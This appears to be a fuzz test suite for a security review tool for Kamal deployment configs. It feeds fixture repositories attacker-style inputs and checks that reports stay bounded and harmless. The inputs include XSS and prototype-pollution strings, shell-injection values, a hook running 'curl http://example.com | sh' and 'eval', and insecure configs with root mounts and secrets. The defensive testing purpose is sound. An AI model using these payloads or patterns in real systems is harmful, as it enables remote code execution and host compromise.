/** What must hold for any text in any file a review reads: the fixtures of all rules, damaged and laced with what attackers write. */
import { readdirSync } from "node:fs";
import { describe, expect, test } from "@jest/globals";
import fc from "fast-check";
import { openProject, type Project } from "../src/documents/project.ts";
import { MAX_SENTENCE } from "../src/engine/bounded-sentence.ts";
import { checkOutput, MAX_SUMMARY } from "../src/report/check-output.ts";
import { jsonReport } from "../src/report/json.ts";
import { planComments } from "../src/report/review-comments.ts";
import { terminalReport } from "../src/report/terminal.ts";
import { readPatch } from "../src/review/diff-lines.ts";
import type { Review } from "../src/review/review.ts";
import { reviewChange } from "../src/review/review-change.ts";
import { RULES } from "../src/rules/index.ts";
import { hiddenCharacters } from "../src/source/hidden-characters.ts";
import { FIXTURES, fixtureCases } from "./support/rule-fixtures.ts";

/** The same texts in every run, so that a failure can be had again; RUNS=10000 looks further. */
const RUNS = { seed: 20_261_125, numRuns: Number(process.env.RUNS ?? 120) };

type Files = Readonly<Record<string, string>>;

/** Every distinct small repository among the fixtures. */
const REPOSITORIES: readonly Files[] = readdirSync(FIXTURES).flatMap((rule) =>
  (["bad", "good"] as const).flatMap((kind) =>
    fixtureCases(rule, kind).flatMap(({ before, after }) =>
      [before, after].flatMap((marked) => (marked ? [textsOf(marked.files)] : [])),
    ),
  ),
);

function textsOf(files: readonly { path: string; content: unknown }[]): Files {
  return Object.fromEntries(
    files.flatMap(({ path, content }) =>
      content instanceof Uint8Array ? [[path, Buffer.from(content).toString("utf8")]] : [],
    ),
  );
}

/** What an attacker writes where something else is expected. */
const HOSTILE = [
  "__proto__",
  "constructor",
  "hasOwnProperty",
  "__proto__: { polluted: true }",
  "toString: x",
  "<img src=x onerror=alert(1)>",
  "</details><!--",
  "@acme/security",
  "](https://evil.example) ![x](https://evil.example/x.png",
  "```\n# heading\n```",
  "``",
  "|",
  "\u202egnp.\u2066",
  "\u200b",
  "\u0430dmin",
  "\u0000",
  "\u001b[2J",
  "\ud83d\ude00",
  "\ud800",
  "$(touch x)",
  ["$", "{A:-$", "{B:-`c`}}"].join(""),
  "<%= `id` %>",
  "<% if x %>",
  "%>",
  "$&$1$`",
  "a".repeat(3000),
  "../".repeat(50),
  "&a ",
  "*a",
  "!!binary ",
  "!ruby/object:A ",
  "? ",
  "<<: ",
  "- ",
  ": ",
  "{",
  "]",
  "\t",
  "\r",
  "\n",
  "\n---\n",
  "'",
  '"',
  "\\",
  "#",
  "0x1F",
  "1e999",
  "-0",
  "99999999999999999999",
  "yes",
  "~",
  "''",
  "EOF\n",
  "<<EOF\n",
  "(((((",
  "\nFROM x\n",
  "\nRUN <<A <<B\n",
  " \\\n",
  ["$", "{{ github.event.issue.title }}"].join(""),
  "# kamal-review: ignore[*] \n",
] as const;

interface Damage {
  readonly file: number;
  readonly at: number;
  readonly length: number;
  readonly piece: string;
  readonly how: "cut" | "double" | "replace" | "insert" | "word";
}

const DAMAGE: fc.Arbitrary<Damage> = fc.record({
  file: fc.nat(),
  at: fc.nat(),
  length: fc.nat({ max: 40 }),
  piece: fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...HOSTILE) },
    { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 8 }) },
  ),
  how: fc.constantFrom("cut", "double", "replace", "insert", "word"),
});

/** A repository with a few damages, and with files whose names are as hostile as their content. */
const DAMAGED = fc
  .tuple(
    fc.constantFrom(...REPOSITORIES),
    fc.array(DAMAGE, { minLength: 1, maxLength: 5 }),
    fc.option(fc.constantFrom(...HOSTILE)),
  )
  .map(([files, damages, name]) => damages.reduce(damage, name === null ? files : withNamed(files, name)));

/** Further files that have a role whatever they are called: a hook and a destination. */
function withNamed(files: Files, name: string): Files {
  const part = name.replaceAll("\u0000", "0").replaceAll("/", "-").toWellFormed().slice(0, 200);
  return {
    ...files,
    [`.kamal/hooks/${part}`]: '#!/bin/sh\neval "$1"\ncurl http://example.com | sh\n',
    [`config/deploy.${part}.yml`]: 'volumes: ["/:/host"]\nproxy: { ssl: 1 }\n',
  };
}

function damage(files: Files, { file, at, length, piece, how }: Damage): Files {
  const paths = Object.keys(files);
  const path = paths[file % Math.max(1, paths.length)];
  const text = path === undefined ? undefined : files[path];
  if (path === undefined || text === undefined) return files;
  const [start, end] = rangeIn(text, at % (text.length + 1), length, how === "word");
  const middle = {
    cut: "",
    double: text.slice(start, end).repeat(2),
    replace: piece,
    word: piece,
    insert: piece,
  };
  const rest = how === "insert" ? start : end;
  return { ...files, [path]: text.slice(0, start) + middle[how] + text.slice(rest) };
}

/** A whole word is a name or a value more often than any other range is. */
function rangeIn(text: string, at: number, length: number, isWord: boolean): readonly [number, number] {
  if (!isWord) return [at, Math.min(text.length, at + length)];
  const before = /[\w.$-]*$/.exec(text.slice(Math.max(0, at - 100), at))?.[0].length ?? 0;
  const after = /^[\w.$-]*/.exec(text.slice(at, at + 100))?.[0].length ?? 0;
  return [at - before, at + after];
}

async function open(files: Files, previous?: Project): Promise<Project> {
  const list = Object.entries(files).map(([path, text]) => ({
    path,
    mode: /hooks\/|\.sh$|^bin\//.test(path) ? "100755" : "100644",
    content: Buffer.from(text),
  }));
  return openProject(list, { assumeKamal: true, ...(previous ? { previous } : {}) });
}

function review(head: Project, base?: Project): Review {
  return reviewChange({ base, head, rules: RULES, strictness: "audit" });
}

/** Every report of a review, as one value to compare. */
function reports(files: Files, result: Review): readonly string[] {
  const diff = new Map(
    Object.entries(files).map(([path, text]) => [
      path,
      readPatch(`@@ -0,0 +1 @@\n${text.replace(/^/gm, "+")}`),
    ]),
  );
  const situation = {
    diff,
    posted: [],
    headSha: "a",
    repositoryId: 1,
    pullNumber: 1,
    markerKey: new Uint8Array(32),
  };
  const check = checkOutput(
    result,
    (path, line) => `https://github.example/${encodeURIComponent(path)}#${line}`,
  );
  const comments = planComments({ review: result, ...situation }).create;
  expect(check.summary.length).toBeLessThanOrEqual(MAX_SUMMARY);
  for (const { body } of comments) expect(body.length).toBeLessThan(65_536);
  for (const text of [check.summary, ...comments.map(({ body }) => body)]) expectHarmless(text);
  return [terminalReport(result, (_, text) => text), jsonReport(result), JSON.stringify([check, comments])];
}

/** What cuts mentions and addresses is ours. */
const ZERO_WIDTH_SPACE = "\u200b";

/** Outside of code, nothing mentions, links to foreign addresses or is HTML of anybody but us. */
function expectHarmless(markdown: string): void {
  const blocks = markdown.replace(/^(`{3,})[^\n]*\n[\s\S]*?^\1$/gm, "");
  const prose = blocks.replace(/(?<!\\)(`+)(?!`)[^\n]*?(?<!`)\1(?!`)/g, "code");
  expect(prose).not.toMatch(/(?<![\\\w])@\w/);
  expect(prose).not.toMatch(/(?<!\\)<(?!\/?(?:details|summary)>|!-- kamal-review v1 )/);
  expect(prose).not.toMatch(/(?<!\\)\]\((?!https:\/\/github\.example)/);
  expect(hiddenCharacters(prose.replaceAll(ZERO_WIDTH_SPACE, ""))).toEqual([]);
}

function expectSound(files: Files, { findings, failures }: Review): void {
  expect(failures.filter((failure) => "trace" in failure && failure.trace !== undefined)).toEqual([]);
  for (const finding of findings) {
    const text = files[finding.path];
    if (text === undefined) continue; // said about the repository as a whole
    expect(finding.span.start).toBeGreaterThanOrEqual(0);
    expect(finding.span.start).toBeLessThanOrEqual(finding.span.end);
    expect([finding.ruleId, finding.span.end <= text.length]).toEqual([finding.ruleId, true]);
    expect(finding.message.length).toBeLessThanOrEqual(MAX_SENTENCE);
    expect(finding.fix.length).toBeLessThanOrEqual(MAX_SENTENCE);
    expect([finding.ruleId, finding.message.trim()]).not.toEqual([finding.ruleId, ""]);
    if (finding.edit) expect(finding.edit.span.end).toBeLessThanOrEqual(text.length);
  }
}

describe("for damaged repositories", () => {
  test("no rule crashes, every place lies in its file, every report is bounded and harmless", async () => {
    await fc.assert(
      fc.asyncProperty(DAMAGED, async (files) => {
        const head = await open(files);
        const result = review(head);
        expectSound(files, result);
        reports(files, result);
        expect(({} as Record<string, unknown>).polluted).toBeUndefined();
      }),
      { ...RUNS, numRuns: RUNS.numRuns * 2 },
    );
  }, 300_000);

  test("a review says the same each time, and nothing of what did not change is new", async () => {
    await fc.assert(
      fc.asyncProperty(DAMAGED, async (files) => {
        const [first, second] = [await open(files), await open(files)];
        const [one, other] = [review(first), review(second)];
        expect(reports(files, other)).toEqual(reports(files, one));
        const same = review(second, first);
        expectSound(files, same);
        expect(same.findings.filter(({ isNew }) => isNew)).toEqual([]);
        expect(same.fixed).toEqual([]);
        expect(same.plan ?? []).toEqual([]);
      }),
      RUNS,
    );
  }, 300_000);

  test("a change from one to another crashes no rule", async () => {
    await fc.assert(
      fc.asyncProperty(DAMAGED, fc.array(DAMAGE, { minLength: 1, maxLength: 3 }), async (before, damages) => {
        const after = damages.reduce(damage, before);
        const base = await open(before);
        const result = review(await open(after, base), base);
        expectSound(after, result);
        reports(after, result);
      }),
      RUNS,
    );
  }, 300_000);
});

/** Everything that has a name has this one, and is reported. */
function named(name: string): Files {
  const text = JSON.stringify(name);
  const secret = "ohb4Fo9xuQ7vZ2";
  return {
    "config/deploy.yml": `service: shop
image: acme/shop
servers:
  ${text}: { hosts: [192.0.2.10], options: { privileged: true, ${text}: x }, cmd: ${text} }
registry: { username: acme, password: [${text}] }
builder: { arch: amd64, args: { ${JSON.stringify(`${name}_TOKEN`)}: ${secret} }, secrets: [${text}] }
proxy: { host: ${text}, ssl: true }
env:
  clear: { ${JSON.stringify(`${name}_PASSWORD`)}: ${secret} }
  secret: [${text}]
  tags: { ${text}: { ${JSON.stringify(`${name}_TOKEN`)}: ${secret} } }
volumes: [${JSON.stringify(`/${name}:/host`)}, "/:/${name.slice(0, 1)}"]
aliases: { ${text}: 'app exec "bash -c ${secret}"' }
accessories:
  ${text}: { image: ${text}, host: ${text}, port: 5432, options: { publish: ${text}, network: host } }
${text}: { a: b }
`,
    ".kamal/secrets": `${name.replace(/[\r\n]/g, "")}_PASSWORD=${secret}\n`,
    ".github/workflows/deploy.yml": `on: pull_request_target\njobs:\n  ${text}:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${text}\n      - run: kamal deploy\n`,
    Dockerfile: `FROM ${name.replace(/\s/g, "")} AS x\nUSER root\n`,
  };
}

describe("a name that is more than a name", () => {
  test.each(HOSTILE.map((piece) => [JSON.stringify(piece).slice(0, 60), piece] as const))(
    "is only text in every report: %s",
    async (_, piece) => {
      const files = named(piece);
      const base = await open(named("plain"));
      const result = review(await open(files, base), base);
      expectSound(files, result);
      reports(files, result);
    },
  );
});
